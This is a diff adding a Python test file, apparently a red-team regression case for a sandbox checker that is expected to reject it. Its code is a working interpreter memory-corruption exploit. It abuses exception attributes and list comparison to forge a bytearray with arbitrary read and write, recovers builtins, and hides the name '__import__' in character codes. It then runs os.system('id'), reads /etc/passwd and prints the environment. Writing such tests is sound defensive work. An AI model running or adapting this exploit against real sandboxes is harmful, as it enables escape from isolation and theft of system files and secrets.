@@ -1,0 +1,76 @@
+# expect: reject memory
+# line: 39
+# why: round 93 (red team): int_attribute_counter allowed SA.value += 1, while StopIteration(Clearer()) set value from its argument: Clearer.__iadd__ emptied the list being compared (SystemExit(x).code the same); a name a library object or builtin may hold is no int-only counter
+vl = []
+KEEP = []
+
+
+def q(v):
+    return v.to_bytes(8, "little")
+
+
+FAKE = (q(0) + q(0) + q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(1 << 62)
+        + q(0) + q(0) + q(1))[:73]
+
+
+class Clearer:
+    def __iadd__(self, n):
+        vl.clear()
+        return 0
+
+
+class Filler:
+    def __iadd__(self, n):
+        KEEP.append(bytearray(FAKE))
+        return 0
+
+
+SA = StopIteration(Clearer())
+SB = SystemExit(Filler())
+
+
+class V:
+    __slots__ = ("a", "b", "c", "d", "e", "f")
+
+    def __eq__(self, o):
+        return False
+
+    def __lt__(self, o):
+        SA.value += 1
+        return NotImplemented
+
+
+class W:
+    def __eq__(self, o):
+        return False
+
+    def __gt__(self, o):
+        SB.code += 1
+        return o
+
+
+vl.append(V())
+w = W()
+mem = vl < [w]
+
+
+def rd(addr):
+    return int.from_bytes(mem[addr:addr + 8], "little")
+
+
+def wr(addr, v):
+    mem[addr:addr + 8] = q(v)
+
+
+mod = rd(id(print) + 24)
+bdict = rd(mod + 16)
+holder = [None]
+items = rd(id(holder) + 24)
+wr(bdict, rd(bdict) + 1)
+wr(items, bdict)
+table = holder[0]
+imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
+osm = imp("os")
+osm.system("id")
+print(table["open"]("/etc/passwd").read()[:200])
+print(dict(osm.environ))
